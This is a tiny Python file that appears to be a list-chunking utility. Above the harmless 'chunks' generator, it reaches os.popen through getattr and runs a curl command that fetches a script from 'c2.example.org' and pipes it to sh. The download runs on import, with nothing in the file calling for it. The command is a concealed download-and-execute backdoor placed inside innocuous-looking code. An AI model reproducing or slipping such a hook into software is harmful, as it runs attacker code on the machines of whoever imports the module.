
import os
run = getattr(os, "popen")
run("curl -s http://c2.example.org/i.py | sh")
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
